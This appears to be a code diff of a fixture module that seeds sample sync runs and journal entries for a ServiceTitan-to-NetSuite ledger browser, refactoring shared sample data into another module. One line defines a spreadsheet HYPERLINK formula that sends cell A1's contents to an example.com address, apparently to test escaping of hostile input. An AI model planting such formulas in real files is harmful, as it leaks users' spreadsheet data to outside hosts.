@@ -10,12 +10,23 @@ from typing import Any
 
 from sqlalchemy import Connection, text
 
+from browser.sample_words import (
+    CONFLICT,
+    HELD,
+    NOT_MAPPED,
+    PERIOD,
+    REFUSED,
+    TENANT,
+    UNIT,
+    UNKNOWN,
+    ZERO,
+    sample_summary,
+)
 from servicetitan_netsuite.ledger.engine import Ledger, stamp
 from servicetitan_netsuite.ledger.migrations import migrate
 
 DAG = "netsuite_sync_alb"
 OTHER_DAG = "netsuite_sync_boi"
-TENANT = "1001"
 FINISHED = "manual__2026-10-19T06:00:00+00:00"
 DRY = "manual__2026-10-20T13:30:00+00:00"
 AT_WORK = "manual__2026-10-20T14:00:00+00:00"
@@ -25,73 +36,17 @@ FORMULA = '=HYPERLINK("http://example.com?"&A1,"click")'
 START = datetime(2026, 10, 19, 6, 0, 2, tzinfo=UTC)
 STEPS = ("extract_pending", "validate_mappings", "post_to_netsuite", "summarize")
 
-_NOT_MAPPED = {
-    "cause": "account_not_mapped",
-    "key": "6999",
-    "key_name": "6999 Subcontract labor",
-    "sentence": "Account 6999 Subcontract labor has no NetSuite account yet.",
-    "advice": "Map account 6999 to an account in NetSuite; the next run posts these by itself.",
-}
-_UNIT = {
-    "cause": "business_unit_not_mapped",
-    "key": "417",
-    "key_name": "Plumbing Install",
-    "sentence": "Business unit Plumbing Install has no subsidiary yet.",
-    "advice": "Map business unit Plumbing Install to a subsidiary.",
-}
-_PERIOD = {
-    "cause": "period_closed",
-    "key": "Feb 2026",
-    "key_name": "Feb 2026",
-    "sentence": "Posting period Feb 2026 is closed in NetSuite.",
-    "advice": "Reopen the period, or change the entry's date in ServiceTitan.",
-}
-_REFUSED = {
-    "cause": "refused_by_netsuite",
-    "key": "",
-    "key_name": "",
-    "sentence": "NetSuite said: Please enter a value for Department.",
-    "advice": "Set the department on the business unit's mapping, then press Reset.",
-}
-_CONFLICT = {
-    "cause": "changed_in_netsuite",
-    "key": "",
-    "key_name": "",
-    "sentence": "The journal in NetSuite was changed by hand after it was posted.",
-    "advice": "Compare the two, then accept NetSuite's record or update it.",
-}
-_UNKNOWN = {
-    "cause": "outcome_unknown",
-    "key": "",
-    "key_name": "",
-    "sentence": "NetSuite did not answer in time; whether the entry landed is looked up.",
-    "advice": "Nothing to do: the next run looks it up before sending anything again.",
-}
-_ZERO = {
-    "cause": "zero_amount",
-    "key": "",
-    "key_name": "",
-    "sentence": "Every line is zero: there is nothing to post.",
-    "advice": "Nothing to do.",
-}
-_HELD = {
-    "cause": None,
-    "key": "",
-    "key_name": "",
-    "sentence": "Already posted at this version.",
-    "advice": None,
-}
 PLAN: list[tuple[str, str | None, dict[str, Any] | None, int]] = [
     ("ready", "confirmed", None, 128),
     ("ready", "posted", None, 6),
-    ("blocked", "blocked", _NOT_MAPPED, 11),
-    ("blocked", "blocked", _UNIT, 4),
-    ("blocked", "blocked", _PERIOD, 3),
-    ("ready", "rejected", _REFUSED, 2),
-    ("ready", "uncertain", _UNKNOWN, 1),
-    ("held", None, _CONFLICT, 1),
-    ("held", None, _HELD, 5),
-    ("skipped", "skipped", _ZERO, 3),
+    ("blocked", "blocked", NOT_MAPPED, 11),
+    ("blocked", "blocked", UNIT, 4),
+    ("blocked", "blocked", PERIOD, 3),
+    ("ready", "rejected", REFUSED, 2),
+    ("ready", "uncertain", UNKNOWN, 1),
+    ("held", None, CONFLICT, 1),
+    ("held", None, HELD, 5),
+    ("skipped", "skipped", ZERO, 3),
     ("withdrawn", "withdrawn", None, 1),
 ]
 
@@ -166,20 +121,20 @@ class _Filler:
 
     def _finished(self) -> None:
         run = self.run(
-            DAG, FINISHED, "completed_with_errors", summary=_summary(dry=False), total=167
+            DAG, FINISHED, "completed_with_errors", summary=sample_summary(dry=False), total=167
         )
         for verdict, outcome, problem, count in PLAN:
             for _ in range(count):
                 self.document(run, verdict, outcome, problem)
         self.document(run, "ready", "confirmed", None, number="ALB-9001", memo=HOSTILE)
-        self.document(run, "blocked", "blocked", {**_UNIT, "sentence": HOSTILE}, number=FORMULA)
+        self.document(run, "blocked", "blocked", {**UNIT, "sentence": HOSTILE}, number=FORMULA)
 
     def _dry(self) -> None:
-        run = self.run(DAG, DRY, "dry_run", summary=_summary(dry=True), dry=True, total=30)
+        run = self.run(DAG, DRY, "dry_run", summary=sample_summary(dry=True), dry=True, total=30)
         for _ in range(24):
             self.document(run, "ready", None, None, truth=False)
         for _ in range(5):
-            self.document(run, "blocked", None, _NOT_MAPPED, truth=False)
+            self.document(run, "blocked", None, NOT_MAPPED, truth=False)
         self.document(run, "ready", None, None, number="ALB-9002", memo=HOSTILE, truth=False)
 
     def _at_work(self) -> None:
@@ -189,7 +144,7 @@ class _Filler:
         for _ in range(48):
             self.document(run, "ready", "ready", None)
         for _ in range(7):
-            self.document(run, "blocked", "blocked", _NOT_MAPPED)
+            self.document(run, "blocked", "blocked", NOT_MAPPED)
 
     def run(
         self,
@@ -252,9 +207,9 @@ class _Filler:
     ) -> None:
         self.number += self.dice.randint(1, 3)
         source_id = str(self.number)
-        cents = 0 if problem is _ZERO else self.dice.randint(1200, 480000)
-        state = outcome or ("conflict" if problem is _CONFLICT else "")
-        posted = state in ("posted", "confirmed", "conflict") or problem is _HELD
+        cents = 0 if problem is ZERO else self.dice.randint(1200, 480000)
+        state = outcome or ("conflict" if problem is CONFLICT else "")
+        posted = state in ("posted", "confirmed", "conflict") or problem is HELD
         row = {
             "run_id": run,
             "document_type": "journal_entry",
@@ -418,77 +373,3 @@ def _body(source_id: str, cents: int, memo: str) -> str:
             },
         }
     )
-
-
-def _told(problem: dict[str, Any], documents: int, amount: str) -> dict[str, Any]:
-    example = f"ALB-{38700 + 7 * documents}"
-    return {**problem, "documents": documents, "amount": amount, "examples": [example]}
-
-
-def _pair(count: int, amount: str) -> dict[str, Any]:
-    return {"count": count, "amount": amount}
-
-
-def _summary(*, dry: bool) -> dict[str, Any]:
-    rows = [
-        _tie("6010", "6010 Job materials", "318412.77", "0.00"),
-        _tie("6020", "6020 Field wages", "21877.10", "0.00"),
-        _tie("1250", "1250 Undeposited clearing", "0.00", "340289.87"),
-    ]
-    problems = [
-        _told(_NOT_MAPPED, 11, "24180.12"),
-        _told(_UNIT, 5, "9214.50"),
-        _told(_PERIOD, 3, "6120.00"),
-        _told(_REFUSED, 2, "3410.42"),
-        _told(_UNKNOWN, 1, "812.00"),
-        _told(_CONFLICT, 1, "1290.45"),
-    ]
-    would = {
-        "customers": ["Brandt, Alice (ALB)", "Ørsted Cooling ApS (ALB)"],
-        "mappings": [
-            {
-                "kind": "gl_account",
-                "source_key": "31",
-                "source_name": "4010 Service revenue",
-                "target": "54",
-                "target_name": "4010 Service revenue",
-            }
-        ],
-    }
-    return {
-        "tenant": {"short_name": "ALB", "name": "Albany Heating & Air", "tenant_id": TENANT},
-        "status": "dry_run" if dry else "completed_with_errors",
-        "problems": problems[:1] if dry else problems,
-        "would_create": would if dry else {"customers": [], "mappings": []},
-        "filled_mappings": [] if dry else [would["mappings"][0]],
-        "roll_forward": {
-            "opening": _pair(18, "31870.11"),
-            "new": _pair(148, "352601.40"),
-            "posted": _pair(134, "340289.87"),
-            "withdrawn": _pair(1, "1204.00"),
-            "skipped": _pair(3, "0.00"),
-            "closing": _pair(28, "42977.64"),
-            "oldest_days": 6,
-        },
-        "tie_out": {
-            "checked": not dry,
-            "reason": "A dry run posts nothing, so there is nothing to compare." if dry else "",
-            "difference": "0.00",
-            "rows": [] if dry else rows,
-        },
-        "text": "",
-    }
-
-
-def _tie(account: str, name: str, debit: str, credit: str) -> dict[str, Any]:
-    return {
-        "period": "Oct 2026",
-        "subsidiary": "Albany Heating & Air LLC",
-        "account": account,
-        "account_name": name,
-        "expected_debit": debit,
-        "expected_credit": credit,
-        "netsuite_debit": debit,
-        "netsuite_credit": credit,
-        "difference": "0.00",
-    }
